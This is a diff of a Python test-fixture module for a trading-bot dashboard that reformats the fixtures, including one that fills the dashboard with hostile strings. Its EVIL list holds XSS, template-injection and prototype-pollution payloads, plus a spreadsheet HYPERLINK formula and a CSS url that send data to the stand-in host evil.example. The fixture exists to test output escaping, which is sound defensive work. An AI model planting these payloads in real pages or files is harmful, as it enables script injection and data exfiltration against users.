@@ -134,7 +134,9 @@ def _points(times, values) -> tuple[EquityPoint, ...]:
 
 def not_running(data: DashboardData) -> DashboardData:
     """Nobody leads, the venue is silent, no bot was ever heard."""
-    return replace(data, desk=None, market=None, bots=(), equity={}, events=(), total=Totals(None, None, None, "no bot"))
+    return replace(
+        data, desk=None, market=None, bots=(), equity={}, events=(), total=Totals(None, None, None, "no bot")
+    )
 
 
 def empty(data: DashboardData) -> DashboardData:
@@ -163,7 +165,9 @@ def hostile(data: DashboardData) -> DashboardData:
     bots = tuple(replace(row, bot_id=evil(i)) for i, row in enumerate(data.bots))
     bots = tuple(replace(row, status=_named_by_enemy(row.status, i), tags=(evil(i),)) for i, row in enumerate(bots))
     points = {evil(i): line for i, line in enumerate(data.equity.values())} | {"total": data.equity["total"]}
-    told = [Event(i, evil(i), evil(i + 1), {evil(i): evil(i + 2), "words": evil(i)}, f"x{i}", data.as_of) for i in range(60)]
+    told = [
+        Event(i, evil(i), evil(i + 1), {evil(i): evil(i + 2), "words": evil(i)}, f"x{i}", data.as_of) for i in range(60)
+    ]
     clock = replace(data.market, source=evil(3), run_id=evil(4))
     return replace(data, bots=bots, equity=points, events=tuple(told), market=clock)
 
@@ -175,16 +179,16 @@ def _named_by_enemy(status: BotStatus, i: int) -> BotStatus:
 
 
 EVIL = (
-    "<img src=x onerror=\"window.fired=1\">",
+    '<img src=x onerror="window.fired=1">',
     "<script>window.fired=1</script>",
-    "\"><svg onload=window.fired=1>",
+    '"><svg onload=window.fired=1>',
     "__proto__",
     "constructor",
     "javascript:window.fired=1",
     "<iframe srcdoc='<script>parent.fired=1</script>'>",
     "{{constructor.constructor('window.fired=1')()}}",
     "${window.fired=1}",
-    "=HYPERLINK(\"http://evil.example/?\"&A1)",
+    '=HYPERLINK("http://evil.example/?"&A1)',
     "' onmouseover='window.fired=1",
     "\u202egnp.exe<b>",
     "</style><style>*{background:url(http://evil.example/x)}",
